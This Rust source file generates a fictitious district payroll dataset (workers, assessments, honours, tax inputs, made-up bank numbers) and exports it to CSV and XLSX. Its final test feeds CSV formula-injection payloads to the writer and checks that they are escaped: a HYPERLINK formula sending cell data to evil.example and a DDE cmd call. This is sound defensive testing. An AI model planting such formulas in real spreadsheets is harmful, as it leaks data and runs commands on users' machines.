//! The example district: a deterministic, made-up Gulou-sized district to
//! try payrules on.
//!
//! 69 communities (as in the source), about 700 workers, a secretary per
//! community (48 of them career-established, as in the source), 52
//! intermediate and 97 junior titles (as in the source), a year (2026) of
//! monthly assessments plus the annual one, all within the quotas of the
//! built-in policy, new hires on probation, leavers, and a handful of
//! honours, and each worker's tax inputs (contribution base, housing-fund
//! rate, deductions) so a month shows net pay. Names, dates, grades and tax
//! inputs are generated, not real.
//!
//! ```
//! let d = payrules::example::district();
//! assert_eq!(d.units().len(), 69);
//! let titles = |t: &str| d.workers.iter().filter(|w| w.title == t).count();
//! assert_eq!((titles("社会工作师"), titles("助理社会工作师")), (52, 97));
//! ```

use crate::hrfile::output::CommitSet;
use crate::period::{YearMonth, parse_date};
use crate::policy::PolicySet;
use crate::rules::quota;
use crate::rules::tax::TaxRecord;
use crate::worker::{AssessmentRecord, HonourRecord, WorkerRecord};
use chrono::{Datelike, Months, NaiveDate};
use compact_str::{CompactString, ToCompactString};
use std::io;
use std::path::{Path, PathBuf};

/// The generated district.
#[derive(Debug, Clone)]
pub struct District {
    /// The roster.
    pub workers: Vec<WorkerRecord>,
    /// Monthly assessments for 2026-01…2026-12 and the annual one for 2026.
    pub assessments: Vec<AssessmentRecord>,
    /// Honours awarded in 2026.
    pub honours: Vec<HonourRecord>,
    /// Scores for 2026-11 (`worker_id`, `unit`, `score`), for `payrules grade`.
    pub scores: Vec<(String, String, String)>,
    /// Tax inputs, one per worker (the request's `tax` list): see [`tax_inputs`].
    pub tax: Vec<TaxRecord>,
    /// Each worker's bank and account (the roster's 开户行 and 银行账号
    /// columns): see [`bank_accounts`].
    pub bank: crate::hrfile::bank::Accounts,
}

impl District {
    /// A run request of `kind` and `period` on the district's workers,
    /// assessments and honours, gross only (set the request's `tax` from
    /// [`District::tax`] for net pay).
    pub fn into_request(self, kind: crate::run::Kind, period: String) -> crate::run::Request {
        crate::run::Request {
            kind,
            period,
            policy: None,
            workers: self.workers,
            assessments: self.assessments,
            honours: self.honours,
            tax: Vec::new(),
            ytd: Vec::new(),
            adjustments: Vec::new(),
            changes: Vec::new(),
            explain: true,
        }
    }

    /// The units, sorted.
    #[cfg(any(test, feature = "internals"))]
    pub fn units(&self) -> std::collections::BTreeSet<&str> {
        self.workers.iter().map(|w| w.unit.as_str()).collect()
    }
}

/// A small deterministic generator (splitmix64).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn shuffle<T>(&mut self, v: &mut [T]) {
        for i in (1..v.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            v.swap(i, j);
        }
    }
}

const FIRST: [&str; 23] = [
    "东", "西", "南", "北", "中", "华", "安", "凤", "福", "榕", "屏", "乌", "冶", "井", "温", "鼓",
    "洪", "水", "五", "琴", "树", "钱", "光",
];
const SECOND: [&str; 3] = ["湖", "山", "泉"];
const SURNAMES: [&str; 15] = [
    "林", "陈", "黄", "郑", "王", "李", "张", "吴", "刘", "杨", "何", "许", "郭", "徐", "朱",
];
const GIVEN: [&str; 18] = [
    "晓", "敏", "芳", "伟", "丽", "强", "静", "磊", "燕", "军", "婷", "峰", "霞", "斌", "洁", "鹏",
    "琳", "辉",
];

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    // Invariant: callers pass days 1..=28 and months 1..=12.
    NaiveDate::from_ymd_opt(y, m, d).unwrap_or_default()
}

struct Person {
    hired: NaiveDate,
    left: Option<NaiveDate>,
    probation: Option<NaiveDate>,
}

impl Person {
    fn employed(&self, first: NaiveDate, last: NaiveDate) -> bool {
        self.hired <= last && self.left.is_none_or(|l| l >= first)
    }
    fn on_probation(&self, d: NaiveDate) -> bool {
        self.probation.is_some_and(|p| d <= p)
    }
}

/// Generates the example district (the same every time).
pub fn district() -> District {
    let mut rng = Rng(202_611);
    let policy = PolicySet::builtin();
    let mut units = Vec::new();
    for f in FIRST {
        for s in SECOND {
            units.push(format!("{f}{s}社区"));
        }
    }
    let mut workers = Vec::new();
    let mut people = Vec::new();
    let mut secretaries = Vec::new();
    for (ui, unit) in units.iter().enumerate() {
        let size = 8 + rng.below(5) as usize;
        for k in 0..size {
            let i = workers.len();
            let id = format!("GL{:04}", i + 1);
            let name = format!(
                "{}{}{}",
                SURNAMES[rng.below(15) as usize],
                GIVEN[rng.below(18) as usize],
                if rng.below(3) == 0 {
                    ""
                } else {
                    GIVEN[rng.below(18) as usize]
                }
            );
            let position = match (k, ui < 48) {
                (0, true) => "事业编制社区书记",
                (0, false) => "社区书记",
                _ => "社区工作者",
            };
            let mut p = Person {
                hired: date(
                    2008 + rng.below(if k == 0 { 10 } else { 18 }) as i32,
                    1 + rng.below(12) as u32,
                    1 + rng.below(28) as u32,
                ),
                left: None,
                probation: None,
            };
            if k > 0 {
                match rng.below(40) {
                    0 => {
                        // A 2026 hire, six months' probation.
                        p.hired = date(2026, 1 + rng.below(11) as u32, 1 + rng.below(28) as u32);
                        p.probation = p
                            .hired
                            .checked_add_months(Months::new(6))
                            .and_then(|d| d.pred_opt());
                    }
                    1 => {
                        p.left = Some(date(
                            2026,
                            1 + rng.below(12) as u32,
                            1 + rng.below(28) as u32,
                        ))
                    }
                    _ => {}
                }
            }
            if ui == 0 && k == 2 {
                // Joins mid-November: a prorated month.
                p.hired = date(2026, 11, 16);
                p.probation = Some(date(2027, 5, 15));
            }
            if ui == 0 && k == 3 {
                p.hired = date(2019, 5, 1);
                p.left = Some(date(2026, 11, 20));
            }
            if k == 0 {
                secretaries.push(i);
            }
            workers.push(WorkerRecord {
                id: id.into(),
                name: name.into(),
                unit: unit.as_str().into(),
                position: position.into(),
                title: CompactString::default(),
                hired_on: p.hired.to_compact_string(),
                left_on: p.left.map(|d| d.to_compact_string()),
                probation_until: p.probation.map(|d| d.to_compact_string()),
            });
            people.push(p);
        }
    }
    // Titles as in the source: 52 intermediate, 97 junior.
    let mut order: Vec<usize> = (0..workers.len()).collect();
    rng.shuffle(&mut order);
    for (n, &i) in order.iter().enumerate() {
        workers[i].title = match n {
            0..52 => "社会工作师".into(),
            52..149 => "助理社会工作师".into(),
            _ => CompactString::default(),
        };
    }
    // Assessments within the quotas of the built-in policy.
    let mut assessments = Vec::new();
    let mut periods: Vec<(String, NaiveDate, NaiveDate)> = (1..=12)
        .filter_map(|m| YearMonth::new(2026, m))
        .map(|m| (m.to_string(), m.first_day(), m.last_day()))
        .collect();
    periods.push(("2026".into(), date(2026, 1, 1), date(2026, 12, 31)));
    for (period, first, last) in &periods {
        let Ok(v) = policy.version_on(*first) else {
            continue;
        };
        let mut start = 0;
        while start < workers.len() {
            let unit = &workers[start].unit;
            let end = start
                + workers[start..]
                    .iter()
                    .take_while(|w| w.unit == unit)
                    .count();
            let mut graded = Vec::new();
            for i in start..end {
                let p = &people[i];
                if !p.employed(*first, *last) {
                    continue;
                }
                if p.on_probation(*last) {
                    assessments.push(AssessmentRecord {
                        worker_id: workers[i].id.clone(),
                        period: period.as_str().into(),
                        grade: Some("不定等次".into()),
                        score: None,
                    });
                } else {
                    graded.push(i);
                }
            }
            rng.shuffle(&mut graded);
            let (e, g) = quota::slots(&v.quota, graded.len() as u32);
            let g = g.saturating_sub(rng.below(2) as u32);
            for (n, &i) in graded.iter().enumerate() {
                let n = n as u32;
                let grade = if n < e {
                    "优秀"
                } else if n < e + g {
                    "良好"
                } else if rng.below(40) == 0 {
                    "不合格"
                } else {
                    "合格"
                };
                assessments.push(AssessmentRecord {
                    worker_id: workers[i].id.clone(),
                    period: period.as_str().into(),
                    grade: Some(grade.into()),
                    score: None,
                });
            }
            start = end;
        }
    }
    assessments.sort_by(|a, b| a.period.cmp(&b.period).then(a.worker_id.cmp(&b.worker_id)));
    // A handful of honours; two for one deed in November (only the higher is paid).
    let pick = |n: usize| workers[secretaries[n % secretaries.len()]].id.clone();
    let honour = |id: String, level: &str, on: &str, deed: &str| HonourRecord {
        worker_id: id,
        level: level.into(),
        awarded_on: on.into(),
        deed: Some(deed.into()),
        paid: None,
    };
    let honours = vec![
        honour(pick(0).to_string(), "国家级", "2026-11-12", "抗击台风“杜苏芮”转移群众"),
        honour(pick(0).to_string(), "省级", "2026-11-12", "抗击台风“杜苏芮”转移群众"),
        honour(pick(7).to_string(), "市级", "2026-11-05", "老旧小区改造协调"),
        honour(pick(13).to_string(), "省级", "2026-03-08", "社区治理创新"),
        honour(pick(29).to_string(), "市级", "2026-06-18", "垃圾分类示范社区"),
        honour(pick(41).to_string(), "市级", "2026-09-28", "“一老一小”服务"),
    ];
    // November scores for `payrules grade`.
    let (nf, nl) = (date(2026, 11, 1), date(2026, 11, 30));
    let scores = workers
        .iter()
        .zip(&people)
        .filter(|(_, p)| p.employed(nf, nl) && !p.on_probation(nl))
        .map(|(w, _)| {
            let s = 55 + rng.below(450) / 10;
            let tenth = rng.below(10);
            (w.id.to_string(), w.unit.to_string(), format!("{s}.{tenth}"))
        })
        .collect();
    let tax = tax_inputs(&workers, &policy);
    let bank = bank_accounts(&workers);
    District {
        workers,
        assessments,
        honours,
        scores,
        tax,
        bank,
    }
}

/// The example's bank details, from a generator of their own: one of four
/// Nanjing branches, and a 19-digit card number (`6222…`, written in groups
/// of four as payroll clerks copy them: `6222 0210 0112 3456 789`).
pub fn bank_accounts(workers: &[WorkerRecord]) -> crate::hrfile::bank::Accounts {
    const BANKS: [&str; 4] = [
        "中国工商银行南京鼓楼支行",
        "中国建设银行南京湖南路支行",
        "中国农业银行南京山西路支行",
        "南京银行鼓楼支行",
    ];
    let mut rng = Rng(0x6ba2_c0de);
    let by_worker = workers
        .iter()
        .map(|w| {
            let bank = BANKS[rng.below(4) as usize].to_string();
            let digits = format!("6222{:015}", rng.below(1_000_000_000_000_000));
            let account = digits
                .as_bytes()
                .chunks(4)
                .map(|c| std::str::from_utf8(c).unwrap_or_default())
                .collect::<Vec<_>>()
                .join(" ");
            let a = crate::hrfile::bank::Account {
                bank,
                account,
                line: None,
            };
            (w.id.to_string(), a)
        })
        .collect();
    crate::hrfile::bank::Accounts {
        file: "example".into(),
        column: None,
        by_worker,
    }
}

/// The example's tax inputs, from a generator of their own (so the rest of
/// the district is as it was before they were added): one per worker
/// employed all year, none for those hired or leaving in 2026 (their rows
/// show gross pay only). A part month's pay can be less than the month's
/// contributions, which are on the whole contribution base; the example
/// leaves that case out.
///
/// - `contribution_base`: last year's average month as the city would set
///   it, taken as the worker's full month of fixed pay (base pay, living and
///   post allowances, title allowance under the 2026 policy) plus a good
///   grade's monthly bonus, e.g. 2200 + 600 + 300 + 0 + 1100 = 4200 for a
///   community worker without a title (the built-in bounds 4000–24000 then
///   clamp it, if need be);
/// - `housing_fund_rate`: one of 0.05, 0.08, 0.10, 0.12 (the example's
///   files write it as offices do: `12%`);
/// - `additional_deductions`: 0, 1000, 1500, 2000, 3000 or 4000 a month
///   (children's education, housing rent, elderly support…);
/// - `other_deductions`: 200 (tax-favoured health insurance) for one worker
///   in twenty, else empty.
pub fn tax_inputs(workers: &[WorkerRecord], policy: &PolicySet) -> Vec<TaxRecord> {
    let mut rng = Rng(20_261_101);
    let v = policy.version_on(date(2026, 1, 1)).ok();
    let mut out = Vec::new();
    for w in workers {
        let base = v.and_then(|v| {
            let p = &v.positions[v.position_index(&w.position)?];
            let title = if w.title.is_empty() { "none" } else { &w.title };
            let t = v.title_allowance(title.parse().ok()?);
            Some(p.base_pay + p.living_allowance + p.post_allowance + t + v.monthly_bonus.good)
        });
        let rate = ["0.05", "0.08", "0.10", "0.12"][rng.below(4) as usize];
        let additional = ["0", "0", "1000", "1500", "2000", "3000", "4000"][rng.below(7) as usize];
        let other = (rng.below(20) == 0).then(|| "200".to_string());
        let all_year = w.hired_on.as_str() < "2026-01-01" && w.left_on.is_none();
        if !all_year {
            continue;
        }
        out.push(TaxRecord {
            worker_id: w.id.to_string(),
            contribution_base: base.map(crate::money::format_amount),
            housing_fund_rate: Some(rate.into()),
            additional_deductions: Some(additional.into()),
            other_deductions: other,
            paid_on: None,
        });
    }
    out
}

const ROSTER_HEAD: [&str; 10] = [
    "工号",
    "姓名",
    "社区",
    "岗位",
    "职称",
    "入职日期",
    "离职日期",
    "试用期至",
    "开户行",
    "银行账号",
];

fn roster_rows(d: &District) -> Vec<[String; 10]> {
    d.workers
        .iter()
        .map(|w| {
            let a = d.bank.by_worker.get(w.id.as_str()).cloned().unwrap_or_default();
            [
                w.id.to_string(),
                w.name.to_string(),
                w.unit.to_string(),
                w.position.to_string(),
                w.title.to_string(),
                w.hired_on.to_string(),
                w.left_on.as_deref().unwrap_or_default().to_string(),
                w.probation_until.as_deref().unwrap_or_default().to_string(),
                a.bank,
                a.account,
            ]
        })
        .collect()
}

fn assessment_rows(d: &District) -> Vec<[String; 3]> {
    d.assessments
        .iter()
        .map(|a| {
            [
                a.worker_id.to_string(),
                a.period.to_string(),
                a.grade.as_deref().unwrap_or_default().to_string(),
            ]
        })
        .collect()
}

fn honour_rows(d: &District) -> Vec<[String; 4]> {
    d.honours
        .iter()
        .map(|h| {
            [
                h.worker_id.clone(),
                h.level.clone(),
                h.awarded_on.clone(),
                h.deed.clone().unwrap_or_default(),
            ]
        })
        .collect()
}

const TAX_HEAD: [&str; 6] = [
    "工号",
    "姓名",
    "缴费基数",
    "公积金比例",
    "专项附加扣除",
    "其他扣除",
];

fn tax_rows(d: &District) -> Vec<[String; 6]> {
    let names: std::collections::HashMap<&str, &str> = d
        .workers
        .iter()
        .map(|w| (w.id.as_str(), w.name.as_str()))
        .collect();
    d.tax
        .iter()
        .map(|t| {
            // As offices write it: 0.12 → 12%.
            let pct = t.housing_fund_rate.as_deref().map_or(String::new(), |r| {
                r.parse::<rust_decimal::Decimal>()
                    .map_or(r.to_string(), |x| {
                        format!("{}%", (x * rust_decimal::Decimal::ONE_HUNDRED).normalize())
                    })
            });
            [
                t.worker_id.clone(),
                names.get(t.worker_id.as_str()).unwrap_or(&"").to_string(),
                t.contribution_base.clone().unwrap_or_default(),
                pct,
                t.additional_deductions.clone().unwrap_or_default(),
                t.other_deductions.clone().unwrap_or_default(),
            ]
        })
        .collect()
}

fn write_csv<const N: usize>(
    set: &mut CommitSet,
    path: &Path,
    head: [&str; N],
    rows: &[[String; N]],
) -> io::Result<()> {
    set.add(path, |out| {
        // A BOM, as Excel's "CSV UTF-8" writes it, so Excel shows the Chinese.
        io::Write::write_all(out, b"\xEF\xBB\xBF")?;
        let mut w = csv::Writer::from_writer(out);
        w.write_record(head)?;
        for r in rows {
            w.write_record(
                r.iter()
                    .map(|c| crate::hrfile::output::csv_text(c).into_owned()),
            )?;
        }
        w.flush()?;
        Ok(())
    })
}

fn write_xlsx<const N: usize>(
    set: &mut CommitSet,
    path: &Path,
    sheet: &str,
    head: [&str; N],
    rows: &[[String; N]],
    dates: &[usize],
) -> io::Result<()> {
    use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Workbook};
    let build = || -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
        let mut wb = Workbook::new();
        wb.set_properties(
            &DocProperties::new().set_creation_datetime(&ExcelDateTime::from_ymd(2000, 1, 1)?),
        );
        let bold = Format::new().set_bold();
        let date_fmt = Format::new().set_num_format("yyyy-mm-dd");
        let ws = wb.add_worksheet();
        ws.set_name(sheet)?;
        for (c, h) in head.iter().enumerate() {
            ws.write_string_with_format(0, c as u16, *h, &bold)?;
            ws.set_column_width(c as u16, if c == N - 1 && N == 4 { 36 } else { 14 })?;
        }
        ws.set_freeze_panes(1, 0)?;
        for (r, row) in rows.iter().enumerate() {
            let r = r as u32 + 1;
            for (c, v) in row.iter().enumerate() {
                if v.is_empty() {
                    continue;
                }
                match parse_date(v) {
                    Ok(d) if dates.contains(&c) => {
                        let x = ExcelDateTime::from_ymd(
                            d.year() as u16,
                            d.month() as u8,
                            d.day() as u8,
                        )?;
                        ws.write_datetime_with_format(r, c as u16, &x, &date_fmt)?;
                    }
                    _ => {
                        ws.write_string(r, c as u16, v)?;
                    }
                }
            }
        }
        wb.save_to_buffer()
    };
    let bytes =
        build().map_err(|e| io::Error::other(format!("cannot build {}: {e}", path.display())))?;
    set.add(path, |out| io::Write::write_all(out, &bytes))
}

/// Writes the example district into `dir` as CSV (UTF-8 with BOM, Chinese
/// headers) and XLSX (dates as Excel date cells); returns the files written.
/// All of them or none: one [`CommitSet`].
pub fn write(dir: &Path) -> io::Result<Vec<PathBuf>> {
    std::fs::create_dir_all(dir)?;
    let mut set = CommitSet::new(None);
    let set = &mut set;
    let d = district();
    let at = |n: &str| dir.join(n);
    let roster = roster_rows(&d);
    let assess = assessment_rows(&d);
    let honours = honour_rows(&d);
    let a_head = ["工号", "考核期间", "等次"];
    let h_head = ["工号", "荣誉级别", "授予日期", "事迹"];
    write_csv(set, &at("roster.csv"), ROSTER_HEAD, &roster)?;
    write_csv(set, &at("assessments.csv"), a_head, &assess)?;
    write_csv(set, &at("honours.csv"), h_head, &honours)?;
    let scores: Vec<[String; 3]> = d
        .scores
        .iter()
        .map(|(a, b, c)| [a.clone(), b.clone(), c.clone()])
        .collect();
    write_csv(
        set,
        &at("scores-2026-11.csv"),
        ["工号", "社区", "分数"],
        &scores,
    )?;
    write_xlsx(
        set,
        &at("roster.xlsx"),
        "花名册",
        ROSTER_HEAD,
        &roster,
        &[5, 6, 7],
    )?;
    write_xlsx(set, &at("assessments.xlsx"), "考核", a_head, &assess, &[])?;
    write_xlsx(set, &at("honours.xlsx"), "荣誉", h_head, &honours, &[2])?;
    let tax = tax_rows(&d);
    write_csv(set, &at("tax.csv"), TAX_HEAD, &tax)?;
    write_xlsx(set, &at("tax.xlsx"), "个税", TAX_HEAD, &tax, &[])?;
    std::mem::take(set).commit()?;
    Ok([
        "roster.csv",
        "assessments.csv",
        "honours.csv",
        "scores-2026-11.csv",
        "roster.xlsx",
        "assessments.xlsx",
        "honours.xlsx",
        "tax.csv",
        "tax.xlsx",
    ]
    .iter()
    .map(|n| at(n))
    .collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_within_quota() {
        let a = district();
        let b = district();
        assert_eq!(a.workers, b.workers);
        assert_eq!(a.assessments, b.assessments);
        assert!(
            (650..=760).contains(&a.workers.len()),
            "{}",
            a.workers.len()
        );
        let career = a
            .workers
            .iter()
            .filter(|w| w.position == "事业编制社区书记")
            .count();
        assert_eq!(career, 48);
        let req = crate::run::Request {
            kind: crate::run::Kind::Monthly,
            period: "2026-11".into(),
            policy: None,
            workers: a.workers.clone(),
            assessments: a.assessments.clone(),
            honours: a.honours.clone(),
            tax: Vec::new(),
            ytd: Vec::new(),
            adjustments: Vec::new(),
            changes: Vec::new(),
            explain: true,
        };
        let run = crate::run::run(&req, None).unwrap();
        assert!(
            run.errors.is_empty(),
            "{:?}",
            &run.errors[..run.errors.len().min(3)]
        );
        assert_eq!(run.quota.len(), 69);
        assert!(run.quota.iter().all(|p| p.violations().is_empty()));
    }
}

#[cfg(test)]
mod safety_tests {
    #[test]
    fn example_csv_cells_are_escaped() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join("x.csv");
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_string(),
            "=cmd|' /C calc'!A0".to_string(),
            "\tX".to_string(),
        ];
        let mut set = crate::hrfile::output::CommitSet::new(None);
        super::write_csv(
            &mut set,
            &p,
            ["a", "b", "c"],
            std::slice::from_ref(&hostile),
        )
        .unwrap();
        set.commit().unwrap();
        let bytes = std::fs::read(&p).unwrap();
        let mut r = csv::Reader::from_reader(&bytes[3..]);
        let rec = r.records().next().unwrap().unwrap();
        for (got, h) in rec.iter().zip(&hostile) {
            assert_eq!(got, format!("'{h}"));
        }
    }
}
